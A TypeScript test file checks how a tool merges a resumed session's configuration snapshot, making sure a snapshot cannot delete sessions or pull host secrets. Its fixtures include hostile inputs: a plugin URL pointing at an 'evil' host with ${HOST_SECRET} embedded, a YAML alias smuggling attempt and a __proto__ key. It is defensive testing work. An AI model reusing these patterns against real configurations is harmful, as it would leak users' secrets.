import { describe, expect, it } from 'vitest'
import { configKeys, outputPath, type ConfigKey } from './config-keys.ts'
import type { LoadedConfig } from './load.ts'
import { mergeForResume } from './merge-for-resume.ts'
import { readConfigText } from './read-config.ts'
import { configAt } from './validate-config.ts'

const env = { HOST_SECRET: 'hunter2secret', TOKEN: 'token-of-host' }
const load = (text: string): LoadedConfig =>
  readConfigText(text, { home: '/home/me', cwd: '/srv', env, backendGiven: true })
const merged = (given: string, snapshot: string): LoadedConfig =>
  mergeForResume(load(given), snapshot, '/s/metadata/config-snapshot.yaml', env)

/** Two different values that a key may have, as YAML. */
function twoValues(key: ConfigKey): [string, string] {
  switch (key.kind) {
    case 'boolean':
    case 'replaced':
      return ['true', 'false']
    case 'integer':
    case 'number':
    case 'mebibytes':
      return [String(Math.max(key.min, 1)), String(Math.max(key.min, 1) + 1)]
    case 'duration':
      return ['20ms', '30ms']
    case 'choice': {
      const [one, other = one] = key.of.filter((word) => key.notYet?.includes(word) !== true)
      return [one as string, other as string]
    }
    case 'list':
      return ['[one]', '[two]']
    case 'map':
      return ['{a: 1}', '{a: 2}']
    default:
      return ['one', 'two']
  }
}

function yamlOf(path: readonly string[], value: string): string {
  return path.reduceRight((inside, name) => `{${name === '*' ? 'a.plugin' : name}: ${inside}}`, value)
}

describe('a resumed session', () => {
  const keys = [...configKeys()]

  it.each(keys.map(([path, key]) => [key.whose, path.join('.'), path, key] as const))(
    'takes the %s value of %s',
    (whose, _, path, key) => {
      const [ours, theirs] = twoValues(key)
      const [given, snapshot] = [yamlOf(path, ours), yamlOf(path, theirs)]
      const expected = load(whose === 'host' ? given : snapshot).config
      expect(merged(given, snapshot).config).toEqual({ ...expected, core: load(given).config.core })
      // What the session does not write is the host's as well.
      expect(merged(given, '').config).toEqual(load(given).config)
      expect(merged('', snapshot).config).toEqual(whose === 'host' ? load('').config : load(snapshot).config)
    },
  )

  it('brings these keys and no others', () => {
    const session = keys.filter(([, { whose }]) => whose === 'session').map(([path]) => path.join('.'))
    expect(session).toEqual(['journal.rotate_size_mb', 'journal.exclude_events', 'plugins.active', 'plugins.*'])
  })

  it('has every key of the table at its place in the configuration', () => {
    const { config } = load('')
    const missing = keys.filter(([path, { kind }]) => {
      const target = outputPath(path)
      return (
        kind !== 'replaced' && !Object.hasOwn(configAt(config, target.slice(0, -1)) as object, target.at(-1) as string)
      )
    })
    expect(missing).toEqual([])
  })
})

describe('a snapshot that a tool wrote', () => {
  const given = 'core: {sessions: {retention: 0}}\nplugins: {p.one: {url: "http://fine", key: "${TOKEN}"}}'

  it('can not make the host remove sessions', () => {
    const { config } = merged(given, 'core: {sessions: {retention: 1s, root: /elsewhere}}\njournal: {retain_days: 1}')
    expect(config.core.sessions).toMatchObject({ retentionMs: 0, root: '/home/me/.nexus/sessions' })
    expect(config.journal.retainDays).toBe(30)
  })

  it('reads no variable that the given configuration does not name in the same block', () => {
    const { config, warnings } = merged(
      given,
      'plugins:\n  p.one: {url: "http://evil/?x=${HOST_SECRET}&y=${HOST_SECRET:-}", key: "${TOKEN}"}\n  p.two: {key: "${TOKEN}"}\njournal: {exclude_events: ["${TOKEN}"]}\n',
    )
    expect(config.plugins.blocks).toEqual({
      'p.one': { url: 'http://evil/?x=${HOST_SECRET}&y=${HOST_SECRET:-}', key: 'token-of-host' },
      'p.two': { key: '${TOKEN}' },
    })
    expect(config.journal.excludeEvents).toEqual(['${TOKEN}'])
    expect(warnings).toEqual([
      '${HOST_SECRET} in plugins.p.one stays as it is written: the given configuration does not name it there',
      '${TOKEN} in plugins.p.two stays as it is written: the given configuration does not name it there',
      '${TOKEN} in journal.exclude_events stays as it is written: the given configuration does not name it there',
    ])
  })

  it('reads none by an alias of what the host would have been asked', () => {
    const { config } = merged(given, 'core: {agent_id: &a "${HOST_SECRET}"}\nplugins: {p.one: {url: *a}}')
    expect(config.plugins.blocks).toEqual({ 'p.one': { url: '${HOST_SECRET}' } })
  })

  it('is not looked at in what is the host’s, however odd', () => {
    const { config } = merged(
      given,
      'core: {nope: 1, agent_id: "${UNSET}", storage: 7, object_store: {backend: gone}}\nxyz: 1\n',
    )
    expect(config).toEqual(load(given).config)
  })

  it.each([
    ['journal: {rotate_size_mb: big}', /journal\.rotate_size_mb: must be a number/],
    ['journal: 7', /journal: must be a map/],
    ['plugins: {active: [""]}', /plugins\.active\[0\]: is empty/],
    ['plugins: {p: {__proto__: 1}}', /never accepted/],
    ['plugins: [', /./],
  ])('%j is refused with its place', (snapshot, message) => {
    expect(() => merged(given, snapshot)).toThrow(message)
  })

  it('keeps its own text, and locates the problem of a block in the text that the block is from', () => {
    const loaded = merged('\n\nplugins:\n  mine: {a: "${TOKEN}"}\n', 'plugins:\n  theirs: {a: 1}\n')
    expect(loaded.text).toBe('plugins:\n  theirs: {a: 1}\n')
    expect(loaded.problemAt(['plugins', 'theirs', 'a'], 'is odd')).toMatchObject({
      position: { line: 2 },
      message: 'is odd',
    })
    const ours = loaded.problemAt(['plugins', 'mine', 'a'], 'got "token-of-host"')
    expect(ours.position).toMatchObject({ line: 4 })
    expect(ours.message).not.toContain('token-of')
  })
})
